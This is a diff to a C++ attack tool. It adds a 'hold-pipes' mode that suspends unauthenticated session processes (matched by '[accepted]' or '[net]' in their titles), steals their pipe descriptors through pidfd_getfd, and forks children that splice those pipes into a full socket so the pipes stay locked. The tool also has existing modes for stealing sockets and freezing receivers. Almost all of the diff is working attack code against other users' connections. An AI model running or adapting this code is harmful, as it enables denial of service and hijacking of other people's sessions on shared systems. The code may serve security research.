@@ -152,7 +152,8 @@ bool is_unauthenticated_session(int pid)
     const int fd = ::open(("/proc/" + std::to_string(pid) + "/cmdline").c_str(), O_RDONLY);
     const ssize_t size = ::read(fd, title.data(), title.size() - 1);
     ::close(fd);
-    return size > 0 && std::strstr(title.data(), "[accepted]") != nullptr;
+    return size > 0 && (std::strstr(title.data(), "[accepted]") != nullptr ||
+                        std::strstr(title.data(), "[net]") != nullptr);
 }
 
 /// Takes what the connections of others lead over, and sends through it a socket that cannot be closed. The
@@ -179,6 +180,51 @@ void freeze_receivers()
                 ::close(lingering);
                 ::close(fd);
                 ::pause();
+            }
+            ::close(fd);
+        }
+    }
+    std::printf("taken %d\n", taken);
+}
+
+/// One that nobody reads from: what is sent to it waits.
+int full_socket()
+{
+    int pair[2];
+    ::socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
+    const std::vector<char> block(1 << 16, 'x');
+    while (::send(pair[0], block.data(), block.size(), MSG_DONTWAIT) > 0) {
+    }
+    return pair[0];
+}
+
+/// Takes the ends that the connections of others are read from, and leaves processes behind that hold the
+/// locks of those pipes from the first byte on: the kernel keeps a pipe locked while what is in it is sent to
+/// a socket that is full.
+void hold_pipes()
+{
+    int taken = 0;
+    for (const int pid : processes()) {
+        if (!is_unauthenticated_session(pid)) {
+            continue;
+        }
+        ::kill(pid, SIGSTOP); // or it would read the bytes
+        const int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
+        for (int number = 0; number < 64; ++number) {
+            const int fd = static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0));
+            struct stat status{};
+            if (fd < 0 || ::fstat(fd, &status) != 0 || !S_ISFIFO(status.st_mode) ||
+                (::fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) {
+                ::close(fd);
+                continue;
+            }
+            ++taken;
+            if (::fork() == 0) {
+                close_standard_descriptors();
+                const int full = full_socket();
+                for (;;) {
+                    ::splice(fd, nullptr, full, nullptr, 1 << 16, 0);
+                }
             }
             ::close(fd);
         }
@@ -568,6 +614,8 @@ int main(int argc, char** argv)
         steal_sockets(std::atoi(argv[2]));
     } else if (what == "freeze-receivers") {
         freeze_receivers();
+    } else if (what == "hold-pipes") {
+        hold_pipes();
     } else if (what == "descriptors-in-flight") {
         descriptors_in_flight(std::atoi(argv[2]));
     } else if (what == "namespaces") {
